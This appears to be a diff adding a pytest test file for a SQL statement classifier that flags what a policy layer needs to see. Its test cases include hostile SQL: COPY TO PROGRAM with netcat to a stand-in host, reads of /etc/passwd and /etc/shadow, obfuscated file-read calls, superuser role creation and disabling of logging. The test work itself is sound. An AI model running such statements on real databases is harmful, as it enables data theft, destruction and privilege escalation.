@@ -1,0 +1,228 @@
+"""pdp.statements: what the policy sees of a SQL string, and that nothing hides from it."""
+
+from __future__ import annotations
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from pdp.statements import classify, shape, split
+
+
+def types(sql: str) -> list[str]:
+    return [e["type"] for e in classify(sql)]
+
+
+@pytest.mark.parametrize(
+    ("sql", "expected"),
+    [
+        ("", []),
+        ("   ", []),
+        ("-- only a comment", []),
+        ("/* block */", []),
+        ("SELECT 1", ["select"]),
+        ("/* harmless */ DROP TABLE t", ["drop"]),
+        ("-- select 1\nDELETE FROM t", ["delete"]),
+        ("select 1; drop table x", ["select", "drop"]),
+        ("SELECT 1; SELECT 2; UPDATE t SET a = 1", ["select", "select", "update"]),
+        ("INSERT INTO t VALUES (1)", ["insert"]),
+        ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", ["merge"]),
+        ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", ["select", "delete"]),
+        ("WITH u AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING id) SELECT 1", ["select", "update"]),
+        ("WITH i AS (INSERT INTO t VALUES (1) RETURNING 1) SELECT 1", ["select", "insert"]),
+        ("EXPLAIN ANALYZE DELETE FROM t", ["explain", "delete"]),
+        ("EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1", ["explain", "update"]),
+        ("EXPLAIN DELETE FROM t", ["explain"]),
+        ("EXPLAIN (ANALYZE false) DELETE FROM t", ["explain"]),
+        ("PREPARE p AS DELETE FROM t WHERE id = $1", ["prepare", "delete"]),
+        ("PREPARE q AS SELECT 1", ["prepare"]),
+        ("EXECUTE p(1)", ["execute"]),
+        ("DEALLOCATE p", ["deallocate"]),
+        ("COPY (DELETE FROM t RETURNING *) TO STDOUT", ["copy", "delete"]),
+        ("CREATE TABLE t AS SELECT 1", ["ddl"]),
+        ("SELECT * INTO t FROM u", ["ddl"]),
+        ("CREATE INDEX i ON t (a)", ["ddl"]),
+        ("CREATE VIEW v AS SELECT 1", ["ddl"]),
+        ("ALTER TABLE t ADD COLUMN b int", ["ddl"]),
+        ("CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u", ["ddl", "delete"]),
+        ("DROP DATABASE d", ["drop"]),
+        ("TRUNCATE a, b", ["truncate"]),
+        ("GRANT SELECT ON t TO bob", ["grant"]),
+        ("REVOKE SELECT ON t FROM bob", ["grant"]),
+        ("CREATE ROLE eve SUPERUSER", ["grant"]),
+        ("ALTER ROLE eve SUPERUSER", ["grant"]),
+        ("ALTER SYSTEM SET log_statement = 'none'", ["alter_system"]),
+        ("CREATE EXTENSION dblink", ["create_extension"]),
+        ("SET search_path = public", ["set"]),
+        ("RESET ALL", ["set"]),
+        ("SHOW search_path", ["show"]),
+        ("BEGIN", ["transaction"]),
+        ("COMMIT", ["transaction"]),
+        ("ROLLBACK", ["transaction"]),
+        ("SAVEPOINT s", ["transaction"]),
+        ("CALL p(1)", ["call"]),
+        ("LISTEN c", ["listen"]),
+        ("NOTIFY c", ["notify"]),
+        ("VACUUM t", ["maintenance"]),
+        ("DO $$ BEGIN NULL; END $$", ["do"]),
+        ("DO $$ BEGIN TRUNCATE t; DELETE FROM u WHERE a = 1; END $$", ["do", "truncate", "delete"]),
+        ("SELEC 1", ["unparseable"]),
+        ("select 1; selec 2", ["unparseable"]),
+    ],
+)
+def test_statement_types(sql, expected):
+    assert types(sql) == expected
+
+
+def one(sql: str) -> dict:
+    entries = classify(sql)
+    assert len(entries) >= 1
+    return entries[0]
+
+
+def test_entry_fields():
+    entry = one("SELECT a FROM Public.Customers c JOIN orders o ON o.c = c.id")
+    assert entry["tag"] == "SelectStmt"
+    assert sorted(entry["tables"]) == ["orders", "public.customers"]
+    assert entry["functions"] == []
+
+
+def test_nested_entries_are_marked_and_parents_list_inner_tables():
+    entries = classify("WITH d AS (DELETE FROM audit.log WHERE id = 1 RETURNING *) SELECT * FROM d")
+    assert entries[1] == {
+        "type": "delete",
+        "tag": "DeleteStmt",
+        "has_where": True,
+        "nested": True,
+        "tables": ["audit.log"],
+        "functions": [],
+    }
+    assert "audit.log" in entries[0]["tables"]
+    assert "nested" not in entries[0]
+
+
+def test_explain_flags():
+    plain = classify("EXPLAIN DELETE FROM orders")
+    assert plain == [
+        {"type": "explain", "tag": "ExplainStmt", "analyze": False, "tables": ["orders"],
+         "functions": []}
+    ]
+    assert one("EXPLAIN ANALYZE SELECT 1")["analyze"] is True
+    assert one("EXPLAIN (ANALYZE on) SELECT 1")["analyze"] is True
+
+
+def test_where_flags():
+    assert one("DELETE FROM t")["has_where"] is False
+    assert one("DELETE FROM t WHERE a = 1")["has_where"] is True
+    assert one("UPDATE t SET a = 1")["has_where"] is False
+    assert one("UPDATE t SET a = 1 WHERE true")["has_where"] is True
+
+
+def test_copy_flags():
+    assert one("COPY t TO PROGRAM 'nc evil 1'") | {"tables": []} == {
+        "type": "copy", "tag": "CopyStmt", "direction": "to", "program": True, "stdio": False,
+        "tables": [], "functions": [],
+    }
+    from_program = one("COPY t FROM PROGRAM 'cat /etc/passwd'")
+    assert (from_program["direction"], from_program["program"]) == ("from", True)
+    stdin = one("COPY t FROM STDIN")
+    assert (stdin["direction"], stdin["program"], stdin["stdio"]) == ("from", False, True)
+    assert one("COPY t FROM '/etc/passwd'")["stdio"] is False
+
+
+def test_drop_objects():
+    assert one("DROP DATABASE orders")["object"] == "database"
+    assert one("DROP SCHEMA s CASCADE")["object"] == "schema"
+    table = one("DROP TABLE public.a, b")
+    assert (table["object"], table["tables"]) == ("table", ["public.a", "b"])
+    assert one("DROP FUNCTION f(int)")["object"] == "function"
+    assert one("DROP TABLESPACE ts")["type"] == "drop"
+
+
+def test_settings():
+    assert one("SET ROLE postgres")["setting"] == "role"
+    assert one("SET SESSION AUTHORIZATION bob")["setting"] == "session_authorization"
+    assert one("RESET ROLE") | {} == one("RESET ROLE")
+    assert one("RESET ROLE")["reset"] is True
+    assert one("SET LOCAL statement_timeout = 5")["setting"] == "statement_timeout"
+    assert one("SHOW ALL")["setting"] == "all"
+
+
+@pytest.mark.parametrize(
+    ("sql", "function"),
+    [
+        ("SeLeCt PG_READ_FILE('/etc/passwd')", "pg_read_file"),
+        ("select pg_catalog.pg_read_file('x')", "pg_read_file"),
+        ("select * from t where id in (select pg_ls_dir('.'))", "pg_ls_dir"),
+        ("select * from pg_ls_dir('.')", "pg_ls_dir"),
+        ("select 1 where exists (select lo_export(1, '/tmp/x'))", "lo_export"),
+        ("insert into t values (lo_import('/etc/shadow'))", "lo_import"),
+        ("create table t (a text default pg_read_file('x'))", "pg_read_file"),
+        ("with x as (select dblink('h', 'q')) select * from x", "dblink"),
+        ("select (select (select pg_read_binary_file('x')))", "pg_read_binary_file"),
+        ("update t set a = pg_read_file('x') where b = lower('y')", "pg_read_file"),
+        ("select count(*) from t group by 1 having max(pg_read_file('x')) > ''", "pg_read_file"),
+        ("select U&\"pg_read_fil\\0065\"('x')", "pg_read_file"),
+        ("call pg_read_file('x')", "pg_read_file"),
+        ("explain select pg_read_file('x')", "pg_read_file"),
+        ("DO $$ BEGIN PERFORM pg_read_file('x'); END $$", "pg_read_file"),
+        ("DO $$ DECLARE v text; BEGIN v := pg_read_file('x'); END $$", "pg_read_file"),
+        ("DO $$ BEGIN IF pg_ls_dir('.') IS NULL THEN NULL; END IF; END $$", "pg_ls_dir"),
+    ],
+)
+def test_functions_found_anywhere(sql, function):
+    assert function in one(sql)["functions"]
+
+
+def test_do_blocks_that_cannot_be_seen_are_opaque():
+    assert one("DO $$ BEGIN NULL; END $$")["opaque"] is False
+    assert one("DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$")["opaque"] is True
+    assert one("DO LANGUAGE plpythonu $$ import os $$")["opaque"] is True
+    assert one("DO $$ BEGIN this is not plpgsql; END $$")["opaque"] is True
+
+
+def test_unparseable_is_one_entry():
+    entries = classify("SELECT 1; SELEC 2; DROP TABLE x")
+    assert len(entries) == 1
+    assert entries[0]["type"] == "unparseable"
+    assert entries[0]["tag"] == "ParseError"
+    assert "syntax error" in entries[0]["error"]
+    assert classify("select '\x00'")[0]["type"] == "unparseable"
+
+
+def test_shape_ignores_literals():
+    assert shape("SELECT * FROM t WHERE id = 1") == shape("select * from t where id = 99")
+    assert shape("SELECT * FROM t WHERE id = 1") != shape("SELECT * FROM u WHERE id = 1")
+    assert shape("SELEC 1") is None
+
+
+def test_split():
+    assert split("select 1; /* c */ select 2") == ["select 1", "select 2"]
+    assert split("selec 1; x") == ["selec 1; x"]
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.text(max_size=200))
+def test_classify_never_raises(sql):
+    entries = classify(sql)
+    assert isinstance(entries, list)
+    for entry in entries:
+        assert {"type", "tag", "tables", "functions"} <= entry.keys()
+        assert isinstance(entry["tables"], list)
+        assert isinstance(entry["functions"], list)
+
+
+@settings(max_examples=200, deadline=None)
+@given(
+    st.lists(
+        st.sampled_from(
+            ["SELECT 1", "DELETE FROM t", "/* x */", "-- y\n", "DROP TABLE t", "BEGIN", ";", "'"]
+        ),
+        max_size=8,
+    )
+)
+def test_classify_never_raises_on_sql_fragments(parts):
+    sql = " ".join(parts)
+    entries = classify(sql)
+    if "DROP TABLE t" in sql and all(e["type"] != "unparseable" for e in entries):
+        assert "drop" in [e["type"] for e in entries]
